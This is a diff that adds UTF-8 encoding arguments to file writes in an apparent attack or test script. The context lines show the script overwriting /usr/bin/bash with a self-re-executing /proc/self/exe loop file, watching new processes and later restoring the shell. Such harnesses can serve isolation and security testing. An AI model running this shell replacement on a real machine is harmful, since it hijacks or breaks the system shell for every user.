@@ -9,7 +9,7 @@ import time
 
 SHELL = "/usr/bin/bash"
 shutil.copy2(SHELL, "/attack/bash")
-with open("/attack/loop", "w") as file:
+with open("/attack/loop", "w", encoding="utf-8") as file:
     file.write("#!/proc/self/exe /attack/loop\n")
 os.chmod("/attack/loop", 0o755)
 shutil.copy2("/attack/loop", "/attack/new")
@@ -45,7 +45,7 @@ def harm(place):
 
 before = set(os.listdir("/proc"))
 os.rename("/attack/new", SHELL)
-open("/attack/waits", "w").close()
+open("/attack/waits", "w", encoding="utf-8").close()
 end = time.monotonic() + 8
 while time.monotonic() < end and not (seen and time.monotonic() > end - 4):
     for pid in set(os.listdir("/proc")) - before:
@@ -64,6 +64,6 @@ for pid in seen:
     except OSError:
         pass
 os.rename("/attack/bash", SHELL)
-with open("/attack/result.part", "w") as file:
+with open("/attack/result.part", "w", encoding="utf-8") as file:
     json.dump({"seen": len(seen), "done": sorted(done)}, file)
 os.rename("/attack/result.part", "/attack/result")
